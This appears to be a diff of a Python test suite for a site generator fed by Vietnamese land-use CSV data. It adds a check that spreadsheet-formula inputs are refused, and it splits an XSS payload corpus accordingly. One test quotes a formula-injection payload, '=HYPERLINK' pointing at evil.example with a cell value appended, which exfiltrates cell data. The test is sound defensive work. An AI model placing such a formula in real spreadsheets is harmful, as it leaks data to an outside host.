@@ -17,8 +17,22 @@ from tests.conftest import build
 from tests.oracle import read_csv
 from tests.pages import soup
 
-PAYLOADS = [line for line in (Path(__file__).parent / "fixtures" / "xss_payloads.txt")
-            .read_text(encoding="utf-8").splitlines() if line.strip()]
+CORPUS = [line for line in (Path(__file__).parent / "fixtures" / "xss_payloads.txt")
+          .read_text(encoding="utf-8").splitlines() if line.strip()]
+
+
+def refused_at_input(text: str) -> bool:
+    """A cell that is an Excel formula (=HYPERLINK(…)) is refused before anything is built."""
+    from generator.text_checks import TextProblem, check_text
+
+    try:
+        check_text(text)
+    except TextProblem:
+        return True
+    return False
+
+
+PAYLOADS = [p for p in CORPUS if not refused_at_input(p)]
 FREE_TEXT_METADATA = ("title", "legal_basis", "decision_number", "decision_issuer", "office", "notes",
                       "standard", "period")
 FREE_TEXT_COLUMNS = ("Nội dung", "Họ tên chủ hộ", "Loại đất", "Tên công trình, dự án", "Địa điểm",
@@ -28,6 +42,15 @@ THEME_INLINE_SCRIPTS = ("__md_scope=new URL(", "var target=document.getElementBy
 
 def test_corpus_is_large_enough():
     assert len(PAYLOADS) >= 50
+
+
+def test_formula_payloads_are_refused_at_input_with_a_message():
+    from generator.text_checks import TextProblem, check_text
+
+    refused = [p for p in CORPUS if refused_at_input(p)]
+    assert refused == ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm")']
+    with pytest.raises(TextProblem, match="ô chứa công thức Excel"):
+        check_text(refused[0])
 
 
 def first_commune(data: Path) -> Path:
